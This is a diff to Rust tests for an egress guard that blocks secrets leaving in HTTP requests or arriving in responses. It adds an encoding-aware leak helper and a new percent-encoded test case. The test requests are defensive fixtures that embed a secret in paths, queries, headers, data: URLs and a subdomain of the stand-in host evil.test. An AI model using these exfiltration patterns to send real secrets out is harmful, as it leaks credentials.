@@ -21,6 +21,10 @@ async fn counting() -> (std::net::SocketAddr, Arc<AtomicUsize>) {
     (server, count)
 }
 
+fn leak(encoding: &'static str, direction: Direction) -> Error {
+    Error::Leak { label: "mail/key".to_owned(), encoding, direction }
+}
+
 fn guarded() -> Egress {
     Egress::new(Options { scanner: scanner(), ..Options::default() })
 }
@@ -35,6 +39,7 @@ async fn a_secret_anywhere_in_a_request_stops_it() {
         get(format!("{url}{SECRET}")),
         get(format!("{url}?q={SECRET}")),
         get(format!("{url}?q={encoded}")),
+        get(format!("{url}?q={}", encoded.replace("%2d", "-"))),
         get(format!("https://{SECRET}.evil.test/")),
         get(format!("data:,{SECRET}")),
         with_header(get(&url), "x-debug", SECRET),
@@ -49,7 +54,7 @@ async fn a_secret_anywhere_in_a_request_stops_it() {
     ];
     for request in requests {
         let error = guarded().send(request.clone(), at(server)).await.expect_err("a leak");
-        assert_eq!(error, Error::Leak { label: "mail/key".to_owned(), direction: Direction::Outgoing }, "{request:?}");
+        assert!(matches!(&error, Error::Leak { label, direction: Direction::Outgoing, .. } if label == "mail/key"), "{request:?}: {error}");
         assert_eq!((error.kind(), error.sent()), ("leak", false));
         assert!(!error.to_string().contains(SECRET));
     }
@@ -68,7 +73,7 @@ async fn the_credential_in_its_place_is_no_leak() {
 async fn a_secret_in_the_head_of_a_response_goes_no_further() {
     let server = serve(Router::new().fallback(any(|| async { ([("x-echo", SECRET)], "ok") }))).await;
     let error = guarded().send(get(format!("http://{server}/")), at(server)).await.expect_err("a leak");
-    assert_eq!(error, Error::Leak { label: "mail/key".to_owned(), direction: Direction::Incoming });
+    assert_eq!(error, leak("plain", Direction::Incoming));
     assert!(error.sent());
 }
 
@@ -97,7 +102,7 @@ async fn a_secret_in_the_body_of_a_response_goes_no_further_however_it_is_split(
                 Err(error) => break error,
             }
         };
-        assert_eq!(error, Error::Leak { label: "mail/key".to_owned(), direction: Direction::Incoming });
+        assert_eq!(error, leak("plain", Direction::Incoming));
         assert!(b"harmless ".starts_with(&seen), "split at {split}: {:?}", String::from_utf8_lossy(&seen));
         assert_eq!(response.next_chunk().await.expect_err("still").kind(), "leak");
     }
